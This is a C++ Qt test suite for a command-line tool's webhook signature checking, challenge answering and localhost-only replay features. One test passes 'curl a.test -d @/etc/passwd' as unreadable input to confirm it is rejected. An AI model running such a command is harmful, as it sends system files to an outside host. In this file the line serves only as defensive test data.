// SPDX-License-Identifier: GPL-3.0-or-later
#include "ctlrun.h"

#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QMessageAuthenticationCode>
#include <QTcpServer>
#include <QTcpSocket>
#include <QTemporaryDir>
#include <QTest>

using namespace motorpool;
using namespace Qt::StringLiterals;

namespace {

constexpr char token[] = "amt-for-this-test";
constexpr char sent[] =
    "{\"eventId\":\"e-1\",\"eventType\":\"VEHICLE_STATE\",\"data\":{\"vehicle\":"
    "{\"id\":\"car-1\"}},\"meta\":{\"deliveryId\":\"d-1\"}}";

QByteArray signature(const QByteArray &body = sent)
{
    return QMessageAuthenticationCode::hash(body, token, QCryptographicHash::Sha256).toHex();
}

QByteArray http(const QByteArray &body, const QByteArray &header)
{
    return "POST /hook HTTP/1.1\r\nSC-Signature: " + header + "\r\n\r\n" + body;
}

} // namespace

/// The bench on the command line, its key in the environment.
class CtlWebhookTest : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void init()
    {
        QTest::failOnWarning(QRegularExpression(u".*"_s));
        m_ctl = CtlRun(u"" MOTORPOOLCTL ""_s);
        m_ctl.environment.insert(u"SMARTCAR_MANAGEMENT_TOKEN"_s, QString::fromLatin1(token));
    }
    void a_signed_delivery_is_0();
    void a_changed_one_is_10_with_its_cause();
    void a_file_and_a_signature_beside_it();
    void a_log_is_a_record_each();
    void without_a_key_it_is_8();
    void what_cannot_be_read_is_2_or_4();
    void a_challenge_is_answered();
    void a_replay_goes_to_this_computer();
    void a_replay_goes_nowhere_else();
    void the_key_is_in_no_output();

private:
    CtlResult verify(const QByteArray &input, const QStringList &more = {})
    {
        return m_ctl.run(QStringList{u"webhook"_s, u"verify"_s} + more, input);
    }
    QString file(const QByteArray &content)
    {
        const QString path = m_folder.filePath(u"delivery.txt"_s);
        QFile out(path);
        if (!out.open(QIODevice::WriteOnly) || out.write(content) != content.size())
            qFatal("no file");
        return path;
    }

    QTemporaryDir m_folder;
    CtlRun m_ctl{u"" MOTORPOOLCTL ""_s};
};

void CtlWebhookTest::a_signed_delivery_is_0()
{
    const CtlResult shown = verify(http(sent, signature()));
    QVERIFY2(shown.code == 0, inWords(shown).constData());
    QVERIFY(shown.out.contains("Environment"));
    QVERIFY(shown.out.contains("car-1"));
    QCOMPARE(shown.err, QByteArray());

    const CtlResult json = verify(http(sent, signature()), {u"--format"_s, u"json"_s});
    const QJsonObject told = QJsonDocument::fromJson(json.out)[0].toObject();
    QCOMPARE(told[u"verdict"_s].toString(), u"signed"_s);
    QCOMPARE(told[u"isSigned"_s].toBool(), true);
    QCOMPARE(told[u"eventId"_s].toString(), u"e-1"_s);
    QVERIFY(told[u"cause"_s].isNull());
    QCOMPARE(told[u"causes"_s].toArray().size(), 0);
}

void CtlWebhookTest::a_changed_one_is_10_with_its_cause()
{
    const QByteArray input = http(QByteArray(sent) + '\n', "sha256=" + signature());
    const CtlResult shown = verify(input);
    QVERIFY2(shown.code == 10, inWords(shown).constData());
    QVERIFY(shown.out.contains("proved"));

    const CtlResult json = verify(input, {u"--format"_s, u"ndjson"_s});
    QCOMPARE(json.code, 10);
    const QJsonObject told = QJsonDocument::fromJson(json.out).object();
    QCOMPARE(told[u"verdict"_s].toString(), u"explained"_s);
    QCOMPARE(told[u"cause"_s].toString(), u"headerPrefixed"_s);
    QCOMPARE(told[u"causes"_s][1][u"cause"_s].toString(), u"newlineAdded"_s);
    QCOMPARE(told[u"causes"_s][1][u"isProved"_s].toBool(), true);

    const CtlResult csv = verify(input, {u"--format"_s, u"csv"_s});
    QVERIFY(csv.out.startsWith("entry,verdict,isSigned,key,"));
    const CtlResult none = verify(sent, {u"--format"_s, u"ndjson"_s});
    QCOMPARE(none.code, 10);
    QVERIFY(none.out.contains("\"noHeader\""));
}

void CtlWebhookTest::a_file_and_a_signature_beside_it()
{
    const QString path = file(sent);
    QCOMPARE(verify({}, {path, u"--signature"_s, QString::fromLatin1(signature())}).code, 0);
    const QByteArray other = QByteArray(sent).replace("e-1", "e-2");
    const CtlResult mixed =
        verify(http(other, signature()), {u"--previous"_s, path, u"--format"_s, u"ndjson"_s});
    QCOMPARE(mixed.code, 10);
    QVERIFY2(mixed.out.contains("\"otherDelivery\""), inWords(mixed).constData());
}

void CtlWebhookTest::a_log_is_a_record_each()
{
    const QByteArray log = "10:00 signature=" + signature() + " body=" + sent +
                           "\n10:01 signature=" + signature("x") + " body=" + sent + "\n";
    const CtlResult both = verify(log, {u"--format"_s, u"json"_s});
    QCOMPARE(both.code, 10);
    QCOMPARE(QJsonDocument::fromJson(both.out).array().size(), 2);
    QCOMPARE(verify(log, {u"--entry"_s, u"1"_s}).code, 0);
    QCOMPARE(verify(log, {u"--entry"_s, u"2"_s}).code, 10);
    const CtlResult missing = verify(log, {u"--entry"_s, u"3"_s});
    QCOMPARE(missing.code, 2);
    QVERIFY(missing.err.contains("1, 2"));
    const CtlResult table = verify(log);
    QCOMPARE(table.out.count('\n'), 3);
}

void CtlWebhookTest::without_a_key_it_is_8()
{
    m_ctl.environment.remove(u"SMARTCAR_MANAGEMENT_TOKEN"_s);
    const CtlResult none = verify(http(sent, signature()));
    QVERIFY2(none.code == 8, inWords(none).constData());
    QVERIFY(none.err.startsWith("motorpoolctl: No management token is kept."));
    QCOMPARE(none.out, QByteArray());
    QCOMPARE(m_ctl.run({u"webhook"_s, u"challenge"_s, u"abc"_s}).code, 8);
}

void CtlWebhookTest::what_cannot_be_read_is_2_or_4()
{
    QCOMPARE(verify("").code, 2);
    QCOMPARE(verify("curl a.test -d @/etc/passwd").code, 2);
    QVERIFY(verify("curl a.test -d @/etc/passwd").err.contains("/etc/passwd"));
    QCOMPARE(verify({}, {u"/no/such/file"_s}).code, 4);
    QCOMPARE(verify({}, {u"/"_s}).code, 1);
}

void CtlWebhookTest::a_challenge_is_answered()
{
    const QByteArray expected = "{\"challenge\":\"" + signature("nsQsLU7wY9WKt2IU") + "\"}";
    const CtlResult plain = m_ctl.run({u"webhook"_s, u"challenge"_s, u"nsQsLU7wY9WKt2IU"_s});
    QCOMPARE(plain.out, expected + '\n');
    QCOMPARE(plain.code, 0);
    const QByteArray body =
        "{\"eventType\":\"VERIFY\",\"data\":{\"challenge\":\"nsQsLU7wY9WKt2IU\"}}";
    QCOMPARE(m_ctl.run({u"webhook"_s, u"challenge"_s, file(body)}).out, expected + '\n');
    const CtlResult json =
        m_ctl.run({u"webhook"_s, u"challenge"_s, u"-"_s, u"--format"_s, u"json"_s}, body);
    const QJsonObject told = QJsonDocument::fromJson(json.out).object();
    QCOMPARE(told[u"body"_s].toString().toLatin1(), expected);
    QCOMPARE(m_ctl.run({u"webhook"_s, u"challenge"_s, file(sent)}).code, 2);
}

void CtlWebhookTest::a_replay_goes_to_this_computer()
{
    QTcpServer server;
    QVERIFY(server.listen(QHostAddress::LocalHost));
    QList<QByteArray> came;
    QByteArray answer = "HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n";
    connect(&server, &QTcpServer::newConnection, this, [&] {
        QTcpSocket *socket = server.nextPendingConnection();
        connect(socket, &QTcpSocket::readyRead, this, [&, socket] {
            came.append(socket->readAll());
            socket->write(answer);
        });
    });
    const QString url = u"http://localhost:%1/hook"_s.arg(server.serverPort());
    const CtlResult once = m_ctl.run({u"webhook"_s, u"replay"_s, url}, http(sent, signature()));
    QVERIFY2(once.code == 0, inWords(once).constData());
    QCOMPARE(came.size(), 1);
    QVERIFY(came.first().endsWith(sent));
    QVERIFY(came.first().toLower().contains(signature()));

    came.clear();
    const CtlResult more =
        m_ctl.run({u"webhook"_s, u"replay"_s, url, u"--times"_s, u"20"_s, u"--parallel"_s, u"4"_s,
                   u"--sign"_s, u"--new-ids"_s, u"--format"_s, u"json"_s},
                  sent);
    QCOMPARE(more.code, 0);
    const QJsonObject told = QJsonDocument::fromJson(more.out).object();
    QCOMPARE(told[u"accepted"_s].toInt(), 20);
    for (const QByteArray &request : came) {
        const QByteArray body = request.mid(request.indexOf("\r\n\r\n") + 4);
        QVERIFY(request.toLower().contains(signature(body)));
        QVERIFY(!body.contains("\"e-1\""));
    }

    answer = "HTTP/1.1 401 Unauthorized\r\nContent-Length: 0\r\n\r\n";
    QCOMPARE(m_ctl.run({u"webhook"_s, u"replay"_s, url}, sent).code, 7);
    server.close();
    QCOMPARE(m_ctl.run({u"webhook"_s, u"replay"_s, url}, sent).code, 5);
}

void CtlWebhookTest::a_replay_goes_nowhere_else()
{
    for (const QString &url :
         {u"https://example.com/"_s, u"http://10.0.0.1/"_s, u"ftp://localhost"_s}) {
        const CtlResult refused = m_ctl.run({u"webhook"_s, u"replay"_s, url}, sent);
        QCOMPARE(refused.code, 2);
    }
    const QString url = u"http://127.0.0.1:9/"_s;
    QCOMPARE(m_ctl.run({u"webhook"_s, u"replay"_s, url, u"--times"_s, u"0"_s}, sent).code, 2);
    QCOMPARE(m_ctl.run({u"webhook"_s, u"replay"_s, url, u"--times"_s, u"10001"_s}, sent).code, 2);
    QCOMPARE(m_ctl.run({u"webhook"_s, u"replay"_s, url, u"--new-ids"_s}, sent).code, 2);
}

void CtlWebhookTest::the_key_is_in_no_output()
{
    for (const char *format : {"table", "json", "csv"}) {
        const CtlResult told = verify(http(sent, signature("other")),
                                      {u"--verbose"_s, u"--format"_s, QString::fromLatin1(format)});
        QCOMPARE(told.code, 10);
        QVERIFY(!told.out.contains(token) && !told.err.contains(token));
    }
}

QTEST_GUILESS_MAIN(CtlWebhookTest)
#include "tst_ctlwebhook.moc"
